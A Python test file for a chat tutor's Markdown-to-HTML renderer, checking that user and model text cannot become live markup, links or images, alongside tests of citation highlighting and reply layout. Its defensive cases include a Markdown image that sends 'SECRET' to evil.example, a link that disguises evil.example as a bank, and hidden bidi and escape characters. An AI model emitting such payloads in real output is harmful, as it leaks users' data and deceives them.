"""Whatever anybody writes is shown as text: nothing in it can run, load or lead anywhere, and plain Markdown still works."""

import re
import time
from typing import Any

import pytest
from bs4 import BeautifulSoup, Tag

from tests.browser import PAYLOADS, cited
from tutor.markdown import LIMIT, markdown_to_html, passage_to_html, text_to_html
from tutor.types import Citation, Cost, Exchange, Message, Reply, Status, reply_as_json
from tutor.ui.render import MOVES, STOPPED, exchange_to_html, history, messages, status_to_html

PASSAGE = """A pan is flat.

- **Iron keeps the heat.** It is heavy.
- Copper [spreads](https://copper.example/x) it.

1. Warm it.
2. Oil it; wait.

| metal | weight |
|-------|--------|
| iron  | heavy  |
"""
TAGS = frozenset(
    re.findall(
        r"\w+",
        "a blockquote br button code details div em h2 h3 h4 h5 h6 hr li mark ol p pre progress s section span strong summary "
        "table tbody td th thead tr ul",
    )
)
ATTRIBUTES = {"class", "id", "tabindex", "type", "style", "start", "href", "max", "value", "aria-label"}


def soup(html: str) -> BeautifulSoup:
    return BeautifulSoup(html, "html.parser")


def faults(html: str) -> list[str]:
    """What a piece of HTML holds that no text of anybody's may put there."""
    found = []
    for tag in soup(html).find_all(True):
        assert isinstance(tag, Tag)
        found += [tag.name] if tag.name not in TAGS else []
        for name, value in tag.attrs.items():
            safe = name in ATTRIBUTES
            safe &= name != "href" or bool(re.fullmatch(r"#viva-\d+-s?\d+", str(value)))
            safe &= name != "style" or bool(re.fullmatch(r"text-align:(left|right|center)", str(value)))
            found += [] if safe else [f"{tag.name} {name}={value}"]
    return found


def everywhere(text: str) -> Exchange:
    """An exchange with one text in every place that somebody else fills."""
    citation = Citation(1, text, text, text, 0, len(text), text, 0, len(text))
    return Exchange(text, Reply(f"{text} [1] [?]", False, text, (citation,), (text,), notice=text, interrupted=text), text)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_text_becomes_markup(payload: str) -> None:
    shown = messages([everywhere(payload), everywhere(f"| a |\n|---|\n| {payload} |"), everywhere(f"> - {payload}\n\n```\n{payload}\n```")])
    html = "".join(message["content"] for message in shown) + status_to_html(Status(False, payload), payload)
    html += status_to_html(Status(False, "", problem=payload), payload) + status_to_html(Status(True, payload), payload)
    assert faults(html) == []


def test_what_gradio_gets_is_one_block_of_html() -> None:
    """Gradio's parser leaves a block of HTML alone as long as no line in it is empty."""
    shown = messages([everywhere("a\n\nb\r\n\n```\nx\n\n\ny\n```\n\n- c\n\n\n    d")])
    assert all(message["content"].startswith("<div") and "\n" not in message["content"] for message in shown)


@pytest.mark.parametrize(
    ("markdown", "html"),
    [
        ("a **b** *c* ~~d~~ `e`", "<p>a <strong>b</strong> <em>c</em> <s>d</s> <code>e</code></p>"),
        ("one\ntwo", "<p>one<br>two</p>"),
        ("- a\n- b", "<ul><li>a</li><li>b</li></ul>"),
        ("3. c", '<ol start="3"><li>c</li></ol>'),
        (
            "```python\nx = 1\n\ny = '<b>'\n```",
            '<pre class="viva-code" tabindex="0"><code>x = 1&#10;&#10;y = &#x27;&lt;b&gt;&#x27;</code></pre>',
        ),
        ("from $5 to $10", "<p>from $5 to $10</p>"),
        (r"\(a_1 * b_1\) and $$x<y$$", r"<p>\(a_1 * b_1\) and $$x&lt;y$$</p>"),
        ("# Big\n\n### Small\n\n# Big", "<h3>Big</h3><h4>Small</h4><h3>Big</h3>"),
        (
            "[text](https://real.example/p?q=1)",
            '<p><span class="viva-link">text</span> <span class="viva-dropped">(real.example)</span></p>',
        ),
        (
            "[bank.example](https://evil.example)",
            '<p><span class="viva-link">bank.example</span> <span class="viva-dropped">(evil.example)</span></p>',
        ),
        ("<https://real.example>", '<p><span class="viva-link">https://real.example</span></p>'),
        ("[up](#top)", '<p><span class="viva-link">up</span></p>'),
        ("![chart](https://evil.example/?q=SECRET)", '<p><span class="viva-dropped">[image: chart]</span></p>'),
        ("a<br>b", "<p>a<br>b</p>"),
        ("1 < 2 & 3 > 2", "<p>1 &lt; 2 &amp; 3 &gt; 2</p>"),
    ],
)
def test_markdown_is_shown(markdown: str, html: str) -> None:
    assert markdown_to_html(markdown) == html


def test_a_table_can_be_scrolled_by_keyboard() -> None:
    html = markdown_to_html("| a | b |\n|---|--:|\n| 1 | 2 |")
    assert html.startswith('<div class="viva-table" tabindex="0"><table><thead>')
    assert '<td style="text-align:right">2</td>' in html


def test_hidden_characters_are_removed() -> None:
    text = "a\u200b\u202eb\x00\x1b[31mc\u2066d\ufeff"
    assert text_to_html(text) == "abcd"
    assert markdown_to_html(text) == "<p>abcd</p>"


def test_numbers_become_chips_only_where_they_are_known_citations() -> None:
    html = markdown_to_html("So it is [1]. **Or** [2, 1], [3], [x](y) and `[1]`.", {1: "<a>1</a>", 2: "<a>2</a>"})
    assert html == (
        '<p>So it <span class="viva-held">is<a>1</a></span>. <strong>Or</strong><a>2</a><a>1</a>, [3], '
        '<span class="viva-link">x</span> and <code>[1]</code>.</p>'
    )


@pytest.mark.parametrize(
    ("sentence", "marked"),
    [
        ("A pan is flat.", "A pan is flat."),
        ("**Iron keeps the heat.**", "Iron keeps the heat."),
        ("**Iron keeps the heat.** It is heavy.", "Iron keeps the heat. It is heavy."),
        ("Copper [spreads](https://copper.example/x) it.", "Copper spreads it."),
        ("2. Oil it; wait.", "Oil it; wait."),
        ("| iron  | heavy  |", "ironheavy"),
        ("- **Iron keeps the heat.** It is heavy.\n- Copper", "Iron keeps the heat. It is heavy.Copper"),
    ],
)
def test_the_cited_sentence_is_marked_in_its_passage(sentence: str, marked: str) -> None:
    start = PASSAGE.index(sentence)
    page = soup(passage_to_html(PASSAGE, [(start, start + len(sentence), "here")]))
    assert "".join(mark.get_text() for mark in page.find_all("mark")) == marked
    assert page.get_text() == soup(passage_to_html(PASSAGE, [])).get_text(), "the passage itself is unchanged"
    assert [mark["id"] for mark in page.find_all("mark", id=True)] == ["here"]
    assert len(page.find_all("li")) == 4
    assert page.table
    assert faults(str(page)) == []


def test_several_sentences_are_marked_each_under_its_name() -> None:
    sentences = ["A pan is flat.", "Iron keeps the heat.", "Copper [spreads](https://copper.example/x) it.", "| iron  | heavy  |"]
    marks = [(PASSAGE.index(text), PASSAGE.index(text) + len(text), f"m{n}") for n, text in enumerate(sentences)]
    page = soup(passage_to_html(PASSAGE, marks[::-1]))
    assert [mark.get_text() for mark in page.find_all("mark", id=True)] == ["A pan is flat.", "Iron keeps the heat.", "Copper ", "iron"]
    assert [mark["id"] for mark in page.find_all("mark", id=True)] == ["m0", "m1", "m2", "m3"]
    assert page.get_text() == soup(passage_to_html(PASSAGE, [])).get_text()


def test_a_part_that_cannot_be_marked_in_place_is_shown_above_its_passage() -> None:
    across = (PASSAGE.index("Warm it."), PASSAGE.index("2. Oil it") + 9, "across")
    page = soup(passage_to_html(PASSAGE, [across, (0, 14, "flat")]))
    assert [mark.get_text() for mark in page.find_all("mark")] == ["Warm it.2. Oil it", "A pan is flat."]
    assert page.get_text().count("Warm it.") == 2


def test_more_marks_than_there_are_signs_are_all_there() -> None:
    text = " ".join(f"Word{n}." for n in range(600))
    marks = [(found.start(), found.end(), f"m{n}") for n, found in enumerate(re.finditer(r"\S+", text))]
    assert len(soup(passage_to_html(text, marks)).find_all("mark")) == 600


def test_offsets_that_point_nowhere_mark_nothing() -> None:
    assert "<mark" not in passage_to_html("Short.", [(50, 60, "x"), (3, 3, "y")])


def test_a_very_long_text_is_cut_and_says_so_in_good_time() -> None:
    for text in ("[" * 10**6, "| a " * 10**5, "#" * 10**5, r"\(" * 10**5, "*a _b " * 10**5, "- " * 10**5, "![](" * 10**5):
        began = time.process_time()
        html = markdown_to_html(text)
        assert f"longer than {LIMIT:,} characters" in html
        assert time.process_time() - began < 4


def test_a_finished_answer_has_its_sources_and_what_can_be_done_with_it() -> None:
    citations = tuple(cited(n, PASSAGE, "A pan is flat.", file=f"pans{n}.md", question="What is a pan?") for n in range(1, 8))
    reply = Reply("It is flat [1].", True, "Offline engine: quotes", citations, ("Why?", "\u200b"))
    page = soup(exchange_to_html(Exchange("What is a pan?", reply), key=4))
    chip = page.find("a", class_="viva-cite")
    assert isinstance(chip, Tag)
    assert (chip["href"], chip.get_text()) == ("#viva-4-1", " Source 1: pans1.md, What is a pan?")
    assert [mark["id"] for mark in page.select("details.viva-source mark")] == [f"viva-4-{n}" for n in range(1, 8)]
    assert len(page.select(".viva-more .viva-source")) == 2
    assert page.select_one(".viva-more summary").get_text() == "2 more"  # type: ignore[union-attr]  # as above
    assert [button.get_text() for button in page.select(".viva-actions button")] == ["Copy", "Try again"]
    assert [button.get_text() for button in page.select(".viva-moves button")] == list(MOVES)
    assert page.select_one(".viva-raw").get_text().startswith("It is flat [1].\n\nSources:\n[1] pans1.md: What is a pan?")  # type: ignore[union-attr]
    assert messages([Exchange("q", reply)])[-1]["options"] == [{"value": "Why?", "label": "Why?"}]


def test_citations_of_one_passage_are_one_source_with_all_their_sentences_marked() -> None:
    sentences = ["A pan is flat.", "**Iron keeps the heat.**", "Warm it.", "A pan is flat."]
    citations = [cited(n, PASSAGE, text, file="pans.md") for n, text in enumerate(sentences, 1)]
    citations += [cited(5, PASSAGE, "Warm it.", file="other.md"), Citation(6, "pans.md", "What is RAG?", "?", 0, 1, PASSAGE, 900, 910)]
    page = soup(exchange_to_html(Exchange("q", Reply("So [1] it [2] is [3], [4], [5] and [6].", True, "e", tuple(citations))), 2))
    sources = page.find_all("details", class_="viva-source")
    assert [source.select_one(".viva-n").get_text() for source in sources] == ["1, 2, 3, 4, 6", "5"]
    assert [(mark["id"], mark.get_text()) for mark in sources[0].find_all("mark")] == [
        ("viva-2-1", "A pan is flat."),
        ("viva-2-2", "Iron keeps the heat."),
        ("viva-2-3", "Warm it."),
    ]
    leads = [str(chip["href"])[1:] for chip in page.select("a.viva-cite")]
    assert leads == ["viva-2-1", "viva-2-2", "viva-2-3", "viva-2-1", "viva-2-5", "viva-2-s1"], "the fourth shares the first one's mark"
    assert all(page.find(id=name) for name in leads)


def test_sentences_that_overlap_are_marked_as_one() -> None:
    whole = cited(1, PASSAGE, "A pan is flat.\n\n- **Iron keeps the heat.**")
    page = soup(exchange_to_html(Exchange("q", Reply("a [2] b [1]", True, "e", (cited(2, PASSAGE, "pan is flat."), whole))), 0))
    assert {chip["href"] for chip in page.select("a.viva-cite")} == {"#viva-0-1"}
    assert page.select_one(".viva-n").get_text() == "1, 2"  # type: ignore[union-attr]


def test_numbers_that_leave_none_out_are_shown_from_first_to_last() -> None:
    citations = tuple(cited(n, PASSAGE, "Warm it.") for n in (2, 3, 4))
    assert soup(exchange_to_html(Exchange("q", Reply("a", True, "e", citations)), 0)).select_one(".viva-n").get_text() == "2–4"  # type: ignore[union-attr]


def test_a_sentence_that_nothing_supports_is_marked_and_explained_once() -> None:
    reply = Reply("It is flat. [?] It is round. [?] `[?]` stays.", True, "e")
    page = soup(exchange_to_html(Exchange("q", reply), 0))
    chips = page.select(".viva-answer .viva-unsupported")
    assert [chip.get_text() for chip in chips] == ["? no passage supports this sentence"] * 2
    assert len(page.select(".viva-legend")) == 1
    assert page.code.get_text() == "[?]"  # type: ignore[union-attr]
    assert "viva-unsupported" not in exchange_to_html(Exchange("q", Reply("Is it flat?", True, "e")), 0)


def test_what_is_special_about_a_reply_is_said_above_it() -> None:
    reply = Reply(
        "It is flat.", False, "e", general=True, notice="The model is away. This is the offline answer.", interrupted="A **pan** is"
    )
    text = soup(exchange_to_html(Exchange("q", reply), 0)).get_text("|")
    order = ["The model is away.", "Interrupted", "pan", "From general knowledge, not from your documents", "It is flat."]
    assert [text.index(part) for part in order] == sorted(text.index(part) for part in order)
    assert "Not in your documents" not in text
    growing = exchange_to_html(Exchange("q", Reply("", True, "e", complete=False, notice="The server is busy, retrying.")), 0, "Looking")
    assert "The server is busy, retrying." in growing
    assert '<p class="viva-wait">Looking</p>' in growing


@pytest.mark.parametrize(
    ("cost", "shown"),
    [
        (None, "Model"),
        (Cost(), "Model"),
        (Cost(1100, 900, 140, 0.002), "Model1,240 tokens, 0.002"),
        (Cost(None, None, 7, None), "Model7 tokens"),
        (Cost(1, None, 1, 0.0), "Model2 tokens, 0.00"),
        (Cost(money=0.00001), "Modelunder 0.0001"),
        (Cost(money=12.5), "Model12.50"),
    ],
)
def test_what_a_reply_cost_stands_beside_who_gave_it(cost: Cost | None, shown: str) -> None:
    page = soup(exchange_to_html(Exchange("q", Reply("a", True, "Model: small", cost=cost)), 0))
    assert page.select_one(".viva-by").get_text() == shown  # type: ignore[union-attr]


def test_a_refusal_and_a_notice_have_no_moves() -> None:
    for exchange in (Exchange("q", Reply("No.", False, "e")), Exchange("q", Reply("Ha", True, "e", complete=False), STOPPED)):
        assert "viva-move" not in exchange_to_html(exchange, 0)


def test_an_answer_on_its_way_shows_neither_sources_nor_buttons() -> None:
    growing = Exchange("q", Reply("It is [1", True, "e", complete=False))
    assert soup(exchange_to_html(growing, 0)).get_text() == "AnswerIt is [1"
    assert "is-busy" in exchange_to_html(growing, 0)
    assert "is-pending" in exchange_to_html(Exchange("q", Reply("It is [1].", True, "e", complete=False)), 0)
    assert '<p class="viva-wait">Getting ready: Loading</p>' in exchange_to_html(Exchange("q"), 0, "Getting ready: Loading")
    assert "options" not in messages([growing])[-1]


def test_an_answer_that_is_not_in_the_documents_says_so() -> None:
    assert "Not in your documents" in exchange_to_html(Exchange("q", Reply("No.", False, "e")), 0)


def test_a_notice_keeps_what_there_is_of_the_answer_and_offers_another_try() -> None:
    html = exchange_to_html(Exchange("q", Reply("Half", True, "e", complete=False), STOPPED), 0)
    assert "Half" in html
    assert STOPPED in html
    assert "Try again" in html
    assert "is-busy" not in html


def test_only_what_was_answered_to_the_end_is_history() -> None:
    whole = Reply("Flat.", True, "e")
    past = [Exchange("a", whole), Exchange("b", Reply("Ha", True, "e", complete=False), STOPPED), Exchange("c", None, "No.")]
    assert history(past) == (Message("user", "a"), Message("assistant", "Flat."))


@pytest.mark.parametrize(
    ("status", "expected"),
    [
        (Status(True, "Ready", 1.0), "Offline engine"),
        (Status(False, "Loading the model", 0.4), "Getting ready: Loading the model"),
        (Status(False, "Not ready", problem="No documents. Add one."), "No documents. Add one."),
    ],
)
def test_the_status_line_says_who_answers_or_why_not_yet(status: Status, expected: str) -> None:
    assert soup(status_to_html(status, "Offline engine")).get_text() == expected


def test_the_progress_bar_stays_within_its_bounds() -> None:
    assert 'value="40"' in status_to_html(Status(False, "x", 0.4), "")
    assert 'value="100"' in status_to_html(Status(False, "x", 7.0), "")


def test_a_reply_as_json_follows_the_shell_contract() -> None:
    found: Any = reply_as_json(Reply("A [1]", True, "e", (cited(1, PASSAGE, "A pan is flat."),), ("Why?",)))
    assert sorted(found) == ["answer", "answerable", "citations", "engine", "follow_ups"]
    assert sorted(found["citations"][0]) == ["end", "file", "n", "question", "quote", "start"]
